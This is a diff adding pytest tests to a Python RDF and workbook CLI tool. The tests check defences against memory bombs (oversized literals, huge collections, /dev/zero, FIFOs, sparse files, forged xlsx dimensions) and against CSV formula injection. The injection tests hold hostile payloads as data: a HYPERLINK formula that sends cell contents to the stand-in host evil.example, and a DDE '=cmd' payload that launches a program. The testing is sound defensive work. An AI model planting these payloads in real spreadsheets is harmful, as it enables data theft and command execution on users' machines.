@@ -318,3 +318,230 @@ def test_a_redirect_within_the_origin_keeps_working(capsys, credentials_set, tmp
         cli(capsys, "query", "rollen", "--endpoint", srv.url)
         hops = srv.seen
     assert len(hops) >= 2 and all("Authorization" in h for _, _, h in hops)
+
+
+# =================================================================================================
+# 6. Memory bombs: limits checked while reading, before memory grows; only regular files
+
+WORKBOOK = Path(__file__).parent / "fixtures" / "workbook" / "voorbeeld.xlsx"
+CSV_FOLDER = Path(__file__).parent / "fixtures" / "workbook" / "gemeente-voorbeeld"
+
+
+def test_a_literal_over_16_mib_is_one_line(capsys, tmp_path):
+    big = tmp_path / "groot.ttl"
+    big.write_text(
+        FIXTURE.read_text(encoding="utf-8")
+        + '\n<https://w3id.org/ggsr/id/x-cjg> <http://www.w3.org/2000/01/rdf-schema#comment> "'
+        + "a" * (17 * 1024 * 1024)
+        + '" .\n',
+        encoding="utf-8",
+    )
+    code, _, err = cli(capsys, "validate", "--data", str(big))
+    assert code == 2
+    line = one_line(err)
+    assert "longer than 16777216 bytes" in line and "MemoryError" not in line
+
+
+def test_a_long_collection_is_refused_while_streaming(capsys, tmp_path, monkeypatch):
+    """A 10 MB Turtle file can hold a collection of 5 million items (10 M triples, > 8 GB as a
+    list). Quads are counted as they are parsed; here with the limits lowered a thousandfold."""
+    import tracemalloc
+
+    from ggsr_kg import graph as graph_module
+    from ggsr_kg import rdfio
+
+    monkeypatch.setattr(rdfio, "MAX_FILE_QUADS", 5_000)
+    monkeypatch.setattr(graph_module, "LIST_QUADS", 1_000)
+    bomb = tmp_path / "lijst.ttl"
+    bomb.write_text(
+        "<https://w3id.org/ggsr/id/x> <http://www.w3.org/2000/01/rdf-schema#seeAlso> ( "
+        + "1 " * 5_000_000
+        + ") .\n",
+        encoding="utf-8",
+    )
+    tracemalloc.start()
+    code, _, err = cli(capsys, "validate", "--data", str(bomb))
+    peak = tracemalloc.get_traced_memory()[1]
+    tracemalloc.stop()
+    assert code == 2 and "more than 5000 triples in one file" in one_line(err)
+    assert peak < 100 * 1024 * 1024, peak  # Python objects: never the 10 M quads
+
+
+@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
+@pytest.mark.parametrize("kind", ["dev-zero", "fifo", "sparse-6-gb"])
+@pytest.mark.parametrize("where", ["turtle", "csv-folder", "xlsx"])
+def test_files_that_are_not_regular_or_absurdly_large_are_refused_at_once(
+    capsys, tmp_path, kind, where
+):
+    import shutil
+    import time
+
+    if where == "csv-folder":
+        folder = tmp_path / "werkboek"
+        shutil.copytree(CSV_FOLDER, folder)
+        path = folder / "Aanpak.csv"
+        path.unlink()
+        target = folder
+    else:
+        path = tmp_path / ("data.ttl" if where == "turtle" else "werkboek.xlsx")
+        target = path
+    if kind == "dev-zero":
+        path.symlink_to("/dev/zero")
+    elif kind == "fifo":
+        os.mkfifo(path)
+    else:
+        with path.open("wb") as f:
+            f.truncate(6 * 1024**3)  # sparse: no disk used
+    start = time.monotonic()
+    code, _, err = cli(capsys, "validate", "--data", str(target))
+    assert time.monotonic() - start < 30
+    assert code == 2
+    line = one_line(err)
+    assert ("not a regular file" in line) if kind != "sparse-6-gb" else ("too large" in line), line
+
+
+def _with_sheet_xml(tmp_path: Path, sheet: str, edit) -> Path:
+    """voorbeeld.xlsx with the XML of one sheet changed by ``edit(text) -> text``."""
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    wb = load_workbook(WORKBOOK, read_only=True)
+    index = wb.sheetnames.index(sheet) + 1
+    wb.close()
+    out = tmp_path / "werkboek.xlsx"
+    with zipfile.ZipFile(WORKBOOK) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
+        for item in src.infolist():
+            data = src.read(item.filename)
+            if item.filename == f"xl/worksheets/sheet{index}.xml":
+                data = edit(data.decode("utf-8")).encode("utf-8")
+            dst.writestr(item, data)
+    return out
+
+
+def test_a_forged_dimension_sizes_nothing(tmp_path):
+    import re as regex
+    import tracemalloc
+
+    from ggsr_kg.workbook.importer import lees
+
+    forged = _with_sheet_xml(
+        tmp_path,
+        "Organisaties",
+        lambda x: regex.sub(r'<dimension ref="[^"]*"/>', '<dimension ref="A1:XFD1048576"/>', x),
+    )
+    tracemalloc.start()
+    tabellen, problemen, _ = lees(forged)
+    peak = tracemalloc.get_traced_memory()[1]
+    tracemalloc.stop()
+    assert len(tabellen["Organisaties"].rijen) == len(lees(WORKBOOK)[0]["Organisaties"].rijen)
+    assert peak < 200 * 1024 * 1024, peak
+
+
+def test_a_million_rows_are_refused_while_reading(capsys, tmp_path):
+    import time
+
+    rows = "".join(
+        f'<row r="{i}"><c r="A{i}" t="n"><v>1</v></c></row>' for i in range(10, 1_000_010)
+    )
+    bomb = _with_sheet_xml(
+        tmp_path, "Verklaringen", lambda x: x.replace("</sheetData>", rows + "</sheetData>")
+    )
+    assert bomb.stat().st_size < 5 * 1024 * 1024
+    start = time.monotonic()
+    code, _, err = cli(capsys, "import", str(bomb))
+    assert code == 2 and "more than 20000 rows" in one_line(err)
+    assert time.monotonic() - start < 60
+
+
+def test_a_formula_without_a_cached_value_says_so(capsys, tmp_path):
+    from openpyxl import load_workbook
+
+    wb = load_workbook(WORKBOOK)
+    ws = wb["Aanpak"]
+    ws["A2"] = '="Zwol"&"le"'  # openpyxl writes formulas without a cached value
+    path = tmp_path / "formule.xlsx"
+    wb.save(path)
+    code, _, err = cli(capsys, "import", str(path))
+    assert code == 2
+    assert "Blad Aanpak, rij 2, kolom Gemeente: formule zonder berekende waarde" in err
+    assert "formula not calculated: open the workbook in Excel and save it" in err
+    assert "verplichte cel is leeg" not in err
+
+
+# =================================================================================================
+# 7. CSV formula injection: cells starting with = + - @ are neutralised (OWASP)
+
+HOSTILE_LABEL = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
+
+
+def test_csv_output_never_starts_a_cell_with_a_formula_character(capsys, tmp_path):
+    import csv as csvmod
+    import io
+
+    from ggsr_kg.output import render, spreadsheet_safe
+
+    rows = [{"a": v} for v in ("=1+1", "+31 6", "-2+3", "@SUM(A1)", "\t=x", "\r=x", "gewoon", "")]
+    import pyoxigraph as ox
+
+    rows = [{"a": ox.Literal(r["a"])} for r in rows] + [
+        {"a": ox.Literal("-5", datatype=ox.NamedNode("http://www.w3.org/2001/XMLSchema#integer"))}
+    ]
+    for fmt in ("csv", "tsv"):
+        text = render(["a"], rows, fmt)
+        reader = csvmod.reader(
+            io.StringIO(text, newline=""), delimiter="," if fmt == "csv" else "\t"
+        )
+        cells = [r[0] if r else "" for r in reader][1:]
+        for cell in cells[:6]:
+            assert cell.startswith("'"), cell
+        assert cells[6:] == ["gewoon", "", "-5"]  # ordinary text and numbers stay as they are
+    assert spreadsheet_safe(-5) == -5
+
+
+def test_query_csv_of_a_file_is_neutralised(capsys, tmp_path):
+    import csv as csvmod
+    import io
+
+    q = tmp_path / "vraag.rq"
+    literal = HOSTILE_LABEL.replace('"', '\\"')
+    q.write_text(f'SELECT ?x WHERE {{ BIND("{literal}" AS ?x) }}', encoding="utf-8")
+    code, out, err = cli(capsys, "query", str(q), "--format", "csv")
+    assert code == 0, err
+    assert list(csvmod.reader(io.StringIO(out)))[1] == ["'" + HOSTILE_LABEL]
+
+
+def test_validate_csv_cells_are_neutralised(monkeypatch):
+    from ggsr_kg.commands import validate
+
+    class Score:
+        def as_json(self):
+            row = dict.fromkeys(["gemeente", "aanpak", "jaar", "indicator", "label", "thema"], "x")
+            return row | {"criterium": "-1", "status": "+", "redenen": ["@x", "y"], "stj": "=1"}
+
+    text = validate.format_csv([Score()])
+    assert text.splitlines()[1].split(",")[-4:] == ["'-1", "'+", "'@x | y", "'=1"]
+
+
+def test_export_to_a_csv_folder_neutralises_and_import_reads_it_back(tmp_path):
+    from ggsr_kg.workbook import template
+    from ggsr_kg.workbook.importer import lees
+
+    tabellen, _, _ = lees(CSV_FOLDER)
+    first = tabellen["Verklaringen"].rijen[0][1]
+    veld = next(k for k, v in first.items() if isinstance(v, str) and v.startswith("de aanpak"))
+    hostile = dict(first) | {veld: "=cmd|' /C calc'!A0"}
+    out = tmp_path / "export"
+    template._schrijf_csv(out, {"Verklaringen": [_by_heading(hostile)]})
+    written = (out / "Verklaringen.csv").read_text(encoding="utf-8-sig")
+    assert "'=cmd|" in written and "\n=cmd" not in written and ",=cmd" not in written
+    back, _, _ = lees(out)
+    values = [v for _, row in back["Verklaringen"].rijen for v in row.values()]
+    assert "=cmd|' /C calc'!A0" in values
+
+
+def _by_heading(row: dict) -> dict:
+    from ggsr_kg.workbook.mapping import BLADEN
+
+    blad = next(b for b in BLADEN if b.naam == "Verklaringen")
+    return {k.kop: row.get(k.veld) for k in blad.alle_kolommen}
